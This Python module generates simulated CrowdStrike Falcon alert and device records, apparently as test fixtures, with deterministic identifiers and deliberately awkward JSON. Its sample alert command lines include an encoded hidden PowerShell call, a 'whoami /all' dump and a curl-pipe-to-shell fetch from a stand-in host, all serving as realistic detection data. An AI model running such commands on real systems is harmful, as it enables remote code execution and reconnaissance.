"""Alerts and devices of a simulated Falcon customer: every version is a pure function of the seed, its number, its
revision and its times. What is kept of a record is its present version, a few numbers; bytes are made when they are
sent, and again when somebody reads the ledger.
"""

import hashlib
import json
import random
import re
from bisect import bisect_left, insort
from dataclasses import dataclass
from typing import NamedTuple

from vendors.falcon_query import NS, format_time
from vendors.okta_events import SHAPES, restyle

ALERT, DEVICE = "alert", "device"
STATUSES = (b"new", b"in_progress", b"closed", b"reopened")
VARIANTS = 32

_HOLE = re.compile(rb"@@(\w+)@@")


class Look(NamedTuple):
    """How the bytes of a version are made, beside its numbers."""

    digits: int = 9         # fraction digits of an alert's times
    style: str = "compact"
    shape: str = ""         # unusual JSON in it
    odd: bool = False       # an id with what ids rarely have


class Version(NamedTuple):
    """One version of one record."""

    sort: str               # ALERT or DEVICE
    number: int
    revision: int
    stamp: int              # updated or modified, epoch nanoseconds, cut off to what is printed
    created: int
    look: Look


class Shelf:
    """The present versions of one sort, ordered by their time."""

    def __init__(self, sort, identify):
        self.sort = sort
        self.identify = identify
        self.current = []           # by number; None: removed
        self.by_id = {}
        self.order = []             # (stamp, serial, number)
        self.serial = 0
        self._entries = []          # by number: its entry in `order`

    def __len__(self):
        return len(self.order)

    def add(self, stamp, created, look):
        number = len(self.current)
        self.current.append(None)
        self._entries.append(None)
        version = Version(self.sort, number, 1, stamp, created, look)
        self.by_id[self.identify(version)] = number
        self._place(version)
        return version

    def replace(self, number, stamp):
        """A newer version, moved to where its time belongs."""
        before = self.current[number]
        self._take(number)
        version = before._replace(revision=before.revision + 1, stamp=stamp)
        self._place(version)
        return version

    def remove(self, number):
        self._take(number)
        self.current[number] = None

    def _place(self, version):
        self.serial += 1
        entry = (version.stamp, self.serial, version.number)
        self.current[version.number] = version
        self._entries[version.number] = entry
        insort(self.order, entry)

    def _take(self, number):
        del self.order[bisect_left(self.order, self._entries[number])]
        self._entries[number] = None

    def living(self):
        return [version for version in self.current if version is not None]


@dataclass(frozen=True)
class Factory:
    """Identities and bytes."""

    seed: int
    devices: int            # alerts are spread over so many devices

    def device_id(self, number):
        return self._digest(b"device/%d" % number)[:32]

    def cid(self):
        return self._digest(b"customer")[:32]

    def identify(self, version):
        """device_id or composite_id."""
        if version.sort == DEVICE:
            return self.device_id(version.number)
        digest = self._digest(b"alert/%d" % version.number)
        aid = self.device_id(int(digest[:6], 16) % max(1, self.devices))
        tail = f"{int(digest[6:16], 16)}-{10000 + int(digest[16:20], 16)}-{version.number}"
        if version.number % 7 == 3:     # with the time more than 128 bytes
            tail = f"{int(digest[20:40], 16)}-{tail}-{digest[40:56]}"
        if version.look.odd:
            tail += ("~a~b", " with a blank", "-Ærø", '-"q\\"')[int(digest[-2], 16) % 4]
        return f"{self.cid()}:{('ind', 'ind', 'ods', 'xdr')[int(digest[-1], 16) % 4]}:{aid}:{tail}"

    def time(self, version):
        """updated_timestamp or modified_timestamp as it is printed."""
        return format_time(version.stamp, version.look.digits if version.sort == ALERT else 0)

    def data(self, version):
        """The bytes of one version."""
        digest = self._digest(b"%b/%d" % (version.sort.encode(), version.number))
        template = _template(self.seed, version.sort, int(digest[:4], 16) % VARIANTS, version.look.style, version.look.shape)
        holes = {b"ID": _in_json(self.identify(version)), b"CID": self.cid().encode(), b"TIME": self.time(version).encode(),
                 b"REVISION": b"%d" % version.revision, b"STATUS": STATUSES[(version.revision - 1) % len(STATUSES)],
                 b"BIG": b"%d" % (int(digest[4:20], 16) | 1 << 63), b"HEX": digest.encode(), b"NUMBER": b"%d" % version.number,
                 b"HIDDEN": b"false" if is_hidden(version) else b"true"}
        if version.sort == ALERT:
            holes[b"DEVICE"] = self.device_id(int(self._digest(b"alert/%d" % version.number)[:6], 16)
                                              % max(1, self.devices)).encode()
            holes[b"CREATED"] = format_time(version.created, 9).encode()
            holes[b"STARTED"] = format_time(version.created - 3 * NS, 3).encode()
        else:
            holes[b"SEEN"] = format_time(version.stamp - 12 * NS, 0).encode()
            holes[b"CREATED"] = format_time(version.created, 0).encode()
        return template % holes

    def _digest(self, what):
        return hashlib.blake2b(what, key=b"%d" % self.seed, digest_size=32).hexdigest()


def is_hidden(version):
    """An alert that include_hidden=false leaves out."""
    return version.sort == ALERT and version.number % 17 == 5


def _in_json(text):
    return json.dumps(text, ensure_ascii=False)[1:-1].encode()


_templates = {}


def _template(seed, sort, variant, style, shape):
    """A finished record with holes, so that a record costs one formatting."""
    key = (seed, sort, variant, style, shape)
    if key not in _templates:
        chance = random.Random(f"{seed}/{sort}/{variant}")
        record = _alert(chance) if sort == ALERT else _device(chance)
        if shape:
            record = {"shape": "@@SHAPE@@", **record}
        text = json.dumps(record, separators=(",", ":"), ensure_ascii=False).encode()
        if shape:
            text = text.replace(b'"@@SHAPE@@"', SHAPES[shape])
        # Numbers that a double cannot hold, and a member that is no text.
        for name in (b"BIG", b"HIDDEN", b"NUMBER"):
            text = text.replace(b'"@@RAW_%b@@"' % name, b"@@%b@@" % name)
        _templates[key] = _HOLE.sub(rb"%(\1)s", restyle(text, style).replace(b"%", b"%%"))
    return _templates[key]


_NAMES = (("Suspicious PowerShell", "Execution", "TA0002", "PowerShell", "T1059.001"),
          ("Credential dumping — LSASS", "Credential Access", "TA0006", "LSASS Memory", "T1003.001"),
          ("Ransomware behaviour", "Impact", "TA0040", "Data Encrypted for Impact", "T1486"),
          ("Лишний «сервис» создан", "Persistence", "TA0003", "Windows Service", "T1543.003"),
          ("Data exfiltration 100%", "Exfiltration", "TA0010", "Exfiltration Over C2 Channel", "T1041"))
_PEOPLE = ("dana.poe", "bjørn.ærø", "zoë müller", "ACME\\łukasz", "山田 太郎", "o'neil \"red\"", "\U0001f464 ana\u2028x")
_SYSTEMS = (("Windows", "Windows 11", "WS"), ("Windows", "Windows Server 2022", "SRV"), ("Mac", "Sequoia (15)", "MAC"),
            ("Linux", "Debian GNU 12", "LNX"))
_SEVERITIES = ((10, "Informational"), (30, "Low"), (50, "Medium"), (70, "High"), (90, "Critical"))
_LINES = ("powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
          "\"C:\\Windows\\System32\\cmd.exe\" /c \"whoami /all > C:\\Temp\\out.txt\"", "/bin/sh -c 'curl https://example.test/a|sh'\t\u0000")


def _alert(chance):
    name, tactic, tactic_id, technique, technique_id = chance.choice(_NAMES)
    platform, version, prefix = chance.choice(_SYSTEMS)
    severity, severity_name = chance.choice(_SEVERITIES)
    return {
        # Names of the envelope and of the identity, deeper than where they count.
        "grouped_alerts": [{"composite_id": "@@CID@@:ind:@@DEVICE@@:0-0-0", "updated_timestamp": "1999-01-01T00:00:00Z",
                            "resources": [{"composite_id": "x"}], "errors": [{"code": 500, "message": "no error of the reply"}]}],
        "agent_id": "@@DEVICE@@", "aggregate_id": "aggind:@@DEVICE@@:@@BIG@@", "cid": "@@CID@@",
        "cmdline": chance.choice(_LINES), "composite_id": "@@ID@@", "confidence": chance.choice((10, 50, 80)),
        "context_timestamp": "@@STARTED@@", "crawled_timestamp": "@@CREATED@@", "created_timestamp": "@@CREATED@@",
        "data_domains": ["Endpoint"], "description": f"{name}: a process tried what {technique} describes.",
        "device": {
            "agent_version": "7.20.19012.0", "bios_manufacturer": "Phoenix", "device_id": "@@DEVICE@@",
            "external_ip": f"203.0.113.{chance.randrange(256)}", "first_seen": "2026-01-15T08:00:00Z",
            "groups": [f"{chance.getrandbits(128):032x}"], "hostname": f"{prefix}-{chance.randrange(1000):03d}",
            "local_ip": f"10.0.{chance.randrange(256)}.{chance.randrange(256)}", "modified_timestamp": "2026-11-01T00:00:00Z",
            "os_version": version, "ou": ["Zürich", "Rechenzentrum"], "platform_name": platform, "status": "normal",
            "tags": [], "pod_labels": None},
        "display_name": name, "falcon_host_link": "https://falcon.crowdstrike.test/activity-v2/detections/@@HEX@@?_cid=g01",
        "filename": "powershell.exe", "filepath": "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0",
        "global_prevalence": "common", "id": "ind:@@NUMBER@@", "indicator_id": "ind:@@DEVICE@@:@@BIG@@",
        "ioc_context": [], "local_process_id": str(chance.randrange(65536)), "name": name, "objective": "Follow Through",
        "parent_process_id": "@@BIG@@", "pattern_id": 10000 + chance.randrange(10000), "poly_id": "@@RAW_BIG@@",
        "priority_value": chance.choice((0.1, 1e-05, 52)), "process_id": "@@BIG@@", "product": "epp",
        "seconds_to_triaged": "@@RAW_NUMBER@@", "severity": severity, "severity_name": severity_name,
        "sha256": f"{chance.getrandbits(256):064x}", "show_in_ui": "@@RAW_HIDDEN@@", "source_products": ["Falcon Insight"],
        "status": "@@STATUS@@", "tactic": tactic, "tactic_id": tactic_id, "technique": technique,
        "technique_id": technique_id, "timestamp": "@@STARTED@@", "tree_root": "@@BIG@@", "type": "ldt",
        "updated_timestamp": "@@TIME@@", "user_name": chance.choice(_PEOPLE), "user_principal": None, "revision": "@@REVISION@@"}


def _device(chance):
    platform, version, prefix = chance.choice(_SYSTEMS)
    return {
        "agent_load_flags": "1", "agent_local_time": "@@SEEN@@", "agent_version": "7.20.1", "bios_version": "VMW71.00V",
        "cid": "@@CID@@", "config_id_base": "65994767", "cpu_signature": "@@BIG@@",
        "device_policies": {
            "prevention": {"policy_type": "prevention", "policy_id": f"{chance.getrandbits(128):032x}", "applied": True,
                           "assigned_date": "2026-01-15T08:00:00.123456789Z", "device_id": "x"},
            "sensor_update": {"policy_type": "sensor-update", "settings_hash": None, "modified_timestamp": "1999-01-01T00:00:00Z"}},
        "connection_history": [{"device_id": "not this one", "modified_timestamp": "1999-01-01T00:00:00Z", "resources": []}],
        "device_id": "@@ID@@", "external_ip": f"203.0.113.{chance.randrange(256)}", "first_seen": "@@CREATED@@",
        "group_hash": "@@HEX@@", "groups": [], "hostname": f"{prefix}-@@NUMBER@@", "kernel_version": "10.0.22631.4317",
        "last_login_user": chance.choice(_PEOPLE), "last_seen": "@@SEEN@@",
        "local_ip": f"10.0.{chance.randrange(256)}.{chance.randrange(256)}", "mac_address": "00-50-56-8f-0a-1c",
        "machine_domain": "acme.test", "major_version": "10", "meta": {"version": "@@REVISION@@", "version_string": "7:@@BIG@@"},
        "modified_timestamp": "@@TIME@@", "os_version": version, "ou": ["Zürich"], "platform_id": "0",
        "platform_name": platform, "product_type_desc": "Workstation", "provision_status": "Provisioned",
        "reduced_functionality_mode": "no", "serial_number": "VMware-42 0f 3b — 7", "service_pack_major": "0",
        "rtr_state": "enabled", "status": "normal", "system_manufacturer": "VMware, Inc.", "tags": ["SensorGroupingTags/Zürich"],
        "uptime_ticks": "@@RAW_BIG@@"}
